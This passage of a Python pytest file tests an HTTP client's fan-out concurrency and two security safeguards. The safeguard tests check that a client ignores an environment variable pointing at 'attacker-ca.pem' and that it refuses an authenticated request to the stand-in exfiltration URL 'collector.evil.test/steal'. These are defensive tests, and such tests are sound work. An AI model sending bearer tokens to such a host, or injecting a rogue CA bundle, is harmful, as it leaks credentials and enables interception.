    closed_port_client: RaidiamClient, api: responses.RequestsMock, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    # Were the env var read, requests would pass verify=<path> and the adapter would refuse the call;
    # ignored, the call reaches the (closed) port and fails as a connection error.
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
    api.add_passthru(CLOSED_PORT_URL)

    calls: tuple[Callable[[], Any], ...] = (
        lambda: closed_port_client.get_json(CLOSED_PORT_URL),
        lambda: closed_port_client.get_public_json(CLOSED_PORT_URL),
    )
    for call in calls:
        with pytest.raises(ApiError) as caught:
            call()
        assert "ConnectionError" in str(caught.value)


# -- fan-out ---------------------------------------------------------------------------------------


def test_fan_out_keeps_input_order(client: RaidiamClient) -> None:
    rng = random.Random(3)
    delays = [rng.uniform(0, 0.02) for _ in range(30)]

    def work(index: int) -> int:
        time.sleep(delays[index])
        return index * 10

    assert client.fan_out(work, range(30)) == [i * 10 for i in range(30)]
    assert client.fan_out(work, []) == []


def test_fan_out_is_bounded_by_max_workers(tls_settings: Callable[..., Any], kit: Any) -> None:
    client = RaidiamClient(tls_settings(max_workers=3), retry=kit.FAST_RETRY)
    active, peak, lock = [0], [0], threading.Lock()

    def work(_item: int) -> None:
        with lock:
            active[0] += 1
            peak[0] = max(peak[0], active[0])
        time.sleep(0.01)
        with lock:
            active[0] -= 1

    client.fan_out(work, range(12))
    client.close()

    assert 1 < peak[0] <= 3


def test_fan_out_propagates_the_first_error(client: RaidiamClient) -> None:
    def work(index: int) -> int:
        if index == 3:
            raise ValueError("item 3 failed")
        if index == 7:
            raise KeyError("item 7 failed")
        return index

    with pytest.raises(ValueError, match="item 3 failed"):
        client.fan_out(work, range(10))


def test_fan_out_error_cancels_work_not_started(tls_settings: Callable[..., Any], kit: Any) -> None:
    client = RaidiamClient(tls_settings(max_workers=2), retry=kit.FAST_RETRY)
    started: list[int] = []

    def work(index: int) -> int:
        started.append(index)
        if index == 0:
            raise RuntimeError("first item failed")
        time.sleep(0.02)
        return index

    with pytest.raises(RuntimeError, match="first item failed"):
        client.fan_out(work, range(50))
    client.close()

    assert len(started) < 50


def test_nested_fan_out_runs_inline(tls_settings: Callable[..., Any], kit: Any) -> None:
    client = RaidiamClient(tls_settings(max_workers=2), retry=kit.FAST_RETRY)

    def outer(index: int) -> list[int]:
        return client.fan_out(lambda inner: index * 100 + inner, range(3))

    result = client.fan_out(outer, range(4))  # would deadlock with 2 workers if nested pools were used
    client.close()

    assert result == [[i * 100 + j for j in range(3)] for i in range(4)]


def test_fan_out_draws_items_lazily(tls_settings: Callable[..., Any], kit: Any) -> None:
    # Before the fix, every item was drawn (and its future submitted) before the first call ran.
    client = RaidiamClient(tls_settings(max_workers=3), retry=kit.FAST_RETRY)
    drawn = [0]

    def items() -> Iterator[int]:
        for item in range(100_000):
            drawn[0] += 1
            yield item

    def work(index: int) -> int:
        if index == 5:
            raise RuntimeError("item 5 failed")
        return index

    with pytest.raises(RuntimeError, match="item 5 failed"):
        client.fan_out(work, items())
    client.close()

    assert drawn[0] <= 6 + 2 * 3


def test_fan_out_of_a_generator_keeps_input_order(client: RaidiamClient) -> None:
    assert client.fan_out(lambda i: i * 2, (i for i in range(100))) == [i * 2 for i in range(100)]


def test_concurrent_requests_share_one_token(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
    api.add(responses.GET, kit.API_BASE + "/organisations/1", json={"id": 1})

    results = client.fan_out(lambda _i: client.get_json("/organisations/1"), range(16))

    assert results == [{"id": 1}] * 16
    assert len(token_posts(api)) == 1
    assert {c.headers["Authorization"] for c in api_calls(api, kit)} == {"Bearer tok-1"}


# -- weaknesses ------------------------------------------------------------------------------------


def test_authenticated_request_to_foreign_host_is_refused(
    client: RaidiamClient, api: responses.RequestsMock, kit: Any
) -> None:
    api.add(responses.GET, "https://collector.evil.test/steal", json={})

    with contextlib.suppress(ConfigurationError):  # refusing the call is the fix
        client.get_json("https://collector.evil.test/steal")

    leaked = [c for c in api.calls if (c.request.url or "").startswith("https://collector.evil.test")]
    assert leaked == []
